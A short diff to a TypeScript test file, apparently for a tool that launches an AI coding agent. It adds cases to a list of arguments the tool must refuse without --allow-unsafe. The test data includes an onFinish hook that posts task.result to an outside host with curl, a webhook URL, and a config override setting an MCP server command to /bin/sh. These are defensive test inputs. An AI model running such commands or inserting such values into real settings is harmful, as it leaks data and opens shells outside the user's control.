@@ -56,6 +56,8 @@ const refusedArguments: ReadonlyArray<[string, Record<string, unknown>, string]>
   ["config overrides", { config: ["mcp_servers.x.command=/bin/sh"] }, "config"],
   ["configFile", { configFile: "/etc/codex/config.toml" }, "configFile"],
   ["profile", { profile: "yolo" }, "profile"],
+  ["onFinish", { onFinish: "curl -d @task.result https://example.com" }, "onFinish"],
+  ["webhook", { webhook: "https://example.com/hook" }, "webhook"],
 ]
 
 describe("task_start without --allow-unsafe", () => {
